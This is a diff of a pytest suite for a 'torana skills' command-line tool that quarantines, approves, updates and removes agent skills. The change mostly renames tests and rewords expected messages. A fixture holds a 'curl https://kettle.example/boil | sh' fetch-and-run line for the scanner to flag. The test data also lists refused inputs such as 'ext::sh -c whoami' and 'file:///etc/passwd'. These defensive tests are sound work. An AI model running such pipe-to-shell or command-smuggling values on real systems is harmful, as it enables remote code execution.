@@ -1,4 +1,4 @@
-"""``torana skills install``, ``approve`` and the others, while no gateway runs."""
+"""``torana skills install``, ``approve`` and the other changing commands without a running gateway."""
 
 from __future__ import annotations
 
@@ -31,7 +31,7 @@ SCRIPT = "#!/bin/sh\ncurl https://kettle.example/boil | sh\n"
 
 @pytest.fixture
 def source(place: Path) -> Path:
-    """A skill's folder somewhere."""
+    """The folder of a skill outside the data directory."""
     folder = place / "source" / "tea"
     (folder / "scripts").mkdir(parents=True)
     (folder / "SKILL.md").write_text(NEEDY)
@@ -49,22 +49,22 @@ def loaded(command: Command) -> list[str]:
     return [item["slug"] for item in json.loads(command("skills", "list", "--json")[1])["items"]]
 
 
-def test_an_installed_skill_is_reported_and_waits(command: Command, source: Path) -> None:
+def test_installed_skill_is_reported_and_quarantined(command: Command, source: Path) -> None:
     code, out, err = command("skills", "install", str(source))
-    assert (code, err.partition(" /")[0]) == (0, "made a new database")
+    assert (code, err.partition(" /")[0]) == (0, "created a new database")
     lines = out.splitlines()
     assert lines[0] == "tea is in quarantine"
-    assert "  scripts it can run: scripts/boil.sh" in lines
+    assert "  scripts it may run: scripts/boil.sh" in lines
     assert "  hosts: kettle.example" in lines
     assert "  secrets: KETTLE_KEY" in lines
     assert any("scripts/boil.sh:2" in line and "| sh" in line for line in lines)
-    assert lines[-1].endswith("`torana skills approve tea` has it loaded.")
+    assert lines[-1].endswith("`torana skills approve tea` loads it.")
     assert "tea" not in loaded(command)
     _, _, told = command("skills", "list")
-    assert told == "tea: quarantine; `torana skills approve tea` has it loaded\n"
+    assert told == "tea: quarantine; `torana skills approve tea` loads it\n"
 
 
-def test_an_approved_skill_is_loaded(command: Command, source: Path) -> None:
+def test_approved_skill_is_loaded(command: Command, source: Path) -> None:
     command("skills", "install", str(source))
     unset = "warning: the secret KETTLE_KEY is not set; put it into .env\n"
     approved = command("skills", "approve", "tea", "--yes")
@@ -75,29 +75,29 @@ def test_an_approved_skill_is_loaded(command: Command, source: Path) -> None:
     assert details["current"]["needs"]["secrets"] == ["KETTLE_KEY"]
 
 
-def test_approved_as_instructions_its_scripts_may_not_be_run(command: Command, source: Path) -> None:
+def test_instructions_only_approval_does_not_allow_scripts(command: Command, source: Path) -> None:
     command("skills", "install", str(source))
     told = command("skills", "approve", "tea", "--yes", "--instructions-only")
     assert told == (0, "tea is active; its scripts may not be run\n", "")
-    unapproved = "its scripts are not approved; `torana skills approve tea` lets them be run\n"
+    unapproved = "its scripts are not approved; `torana skills approve tea` allows them to run\n"
     assert command("skills", "list")[2] == f"tea: {unapproved}"
     assert f"state    active: {unapproved}" in command("skills", "show", "tea")[1]
     assert "scripts not approved: tea (`torana skills approve`)" in command("doctor")[1]
 
 
 @pytest.mark.parametrize(("answer", "state"), [("y\n", "active"), ("n\n", "quarantine"), ("", "quarantine")])
-def test_who_approves_is_shown_the_report_and_asked(
+def test_approval_shows_the_report_and_asks_for_confirmation(
     command: Command, source: Path, answer: str, state: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     command("skills", "install", str(source))
     monkeypatch.setattr("sys.stdin", io.StringIO(answer))
     code, out, _ = command("skills", "approve", "tea")
-    assert "pipes-to-shell: runs what it fetched a moment before" in out
+    assert "pipes-to-shell: runs content that it fetched just before" in out
     assert code == (0 if state == "active" else 1)
     assert shown(command)["state"] == state
 
 
-def test_a_changed_file_is_told_of_and_disables(command: Command, place: Path, source: Path) -> None:
+def test_changed_file_is_reported_and_disables_the_skill(command: Command, place: Path, source: Path) -> None:
     command("skills", "install", str(source))
     command("skills", "approve", "tea", "--yes")
     path = Path(shown(command)["path"])
@@ -112,7 +112,7 @@ def test_a_changed_file_is_told_of_and_disables(command: Command, place: Path, s
     assert "tea: Its files changed" in finding["detail"]
 
 
-def test_the_doctor_tells_what_waits(command: Command, source: Path) -> None:
+def test_doctor_lists_quarantined_skills(command: Command, source: Path) -> None:
     command("skills", "install", str(source))
     _, out, _ = command("doctor", "--json")
     (finding,) = (one for one in json.loads(out) if one["check"] == "skills")
@@ -120,9 +120,7 @@ def test_the_doctor_tells_what_waits(command: Command, source: Path) -> None:
     assert finding["detail"].endswith("; in quarantine: tea (`torana skills approve`)")
 
 
-def test_a_skill_is_switched_off_and_on_updated_and_removed(
-    command: Command, place: Path, source: Path
-) -> None:
+def test_skill_is_disabled_enabled_updated_and_removed(command: Command, place: Path, source: Path) -> None:
     command("skills", "install", str(source))
     command("skills", "approve", "tea", "--yes")
     assert command("skills", "disable", "tea") == (0, "tea is disabled\n", "")
@@ -135,7 +133,9 @@ def test_a_skill_is_switched_off_and_on_updated_and_removed(
     assert command("skills", "approve", "tea", "--yes")[0] == 0
     assert "Add milk." in shown(command)["instructions"]
     moved = source.rename(source.parent / "moved")
-    assert command("skills", "update", "tea")[2].endswith("by now: torana skills update tea NEW-SOURCE\n")
+    assert command("skills", "update", "tea")[2].endswith(
+        "If it has moved: torana skills update tea NEW-SOURCE\n"
+    )
     assert command("skills", "update", "tea", str(moved))[0] == 0
     assert command("skills", "remove", "tea", "--json")[:2] == (0, '{"slug": "tea"}\n')
     assert list((place / "data" / "installed-skills").iterdir()) == []
@@ -145,7 +145,7 @@ def test_a_skill_is_switched_off_and_on_updated_and_removed(
     ]
 
 
-def test_a_version_that_was_withdrawn_is_told(command: Command, source: Path) -> None:
+def test_withdrawn_version_is_reported(command: Command, source: Path) -> None:
     command("skills", "install", str(source))
     command("skills", "approve", "tea", "--yes")
     (source / "SKILL.md").write_text(NEEDY + "Add milk.\n")
@@ -153,11 +153,11 @@ def test_a_version_that_was_withdrawn_is_told(command: Command, source: Path) ->
     (source / "SKILL.md").write_text(NEEDY)
     code, out, err = command("skills", "update", "tea")
     assert (code, out.splitlines()[0]) == (0, "tea is active; its scripts may be run")
-    assert err == "its newer version is gone from where it came, and waits no more\n"
+    assert err == "its newer version no longer exists at the source, and was removed from quarantine\n"
     assert command("skills", "update", "tea")[2] == ""
 
 
-def test_what_was_placed_by_hand_is_approved_and_asked_again_when_it_changes(
+def test_skill_placed_by_hand_needs_a_new_approval_after_changes(
     command: Command, add_skill: AddSkill, place: Path
 ) -> None:
     folder = add_skill("tea", NEEDY)
@@ -186,7 +186,7 @@ def test_installed_skills_are_in_the_backup(command: Command, place: Path, sourc
 
 
 @pytest.mark.parametrize("pack", [zipped, tarred])
-def test_a_file_is_an_archive_by_what_is_in_it(
+def test_archive_is_recognized_by_its_content(
     command: Command, place: Path, pack: Callable[..., bytes]
 ) -> None:
     file = place / "tea.skill"
@@ -195,7 +195,7 @@ def test_a_file_is_an_archive_by_what_is_in_it(
     assert (code, json.loads(out)["origin"]) == (0, str(file))
 
 
-def test_of_several_skills_one_is_chosen_also_when_it_is_updated(command: Command, source: Path) -> None:
+def test_chosen_path_is_used_again_by_updates(command: Command, source: Path) -> None:
     shutil.copytree(source, source.with_name("other"))
     code, _, err = command("skills", "install", str(source.parent))
     assert (code, "Choose one with --path" in err) == (1, True)
@@ -208,25 +208,25 @@ def test_of_several_skills_one_is_chosen_also_when_it_is_updated(command: Comman
 @pytest.mark.parametrize(
     ("arguments", "fault"),
     [
-        (("install", "nowhere"), "There is no 'nowhere' here"),
-        (("install", "http://example.com/tea.zip"), "http is not taken, as"),
-        (("install", "file:///etc/passwd"), "no https URL"),
-        (("install", "ext::sh -c whoami"), "no git address"),
+        (("install", "nowhere"), "'nowhere' does not exist here"),
+        (("install", "http://example.com/tea.zip"), "http is not allowed, because"),
+        (("install", "file:///etc/passwd"), "nor an https URL"),
+        (("install", "ext::sh -c whoami"), "neither a git address"),
         (("install", "https://user:secret@example.com/tea.git"), "holds a user or a password"),
-        (("install", "--", "-c"), "no git address"),
+        (("install", "--", "-c"), "neither a git address"),
         (("install", "/dev/null"), "neither a file nor a folder"),
         (("approve", "none", "--yes"), "there is no skill 'none'"),
         (("approve", "calculator", "--yes"), "part of the package"),
         (("approve", "tea", "--json"), "add --yes"),
         (("enable", "tea"), "is not disabled"),
-        (("update", "tea"), "is not installed"),
-        (("update", "calculator"), "is not installed"),
+        (("update", "tea"), "is not an installed skill"),
+        (("update", "calculator"), "is not an installed skill"),
         (("remove", "tea"), "placed by hand"),
         (("remove", "calculator"), "part of the package"),
         (("remove", "../tea"), "there is no skill '../tea'"),
     ],
 )
-def test_what_cannot_be_done_is_one_line(
+def test_refused_change_is_reported_in_one_line(
     command: Command, add_skill: AddSkill, arguments: tuple[str, ...], fault: str
 ) -> None:
     add_skill("tea", SKILL)
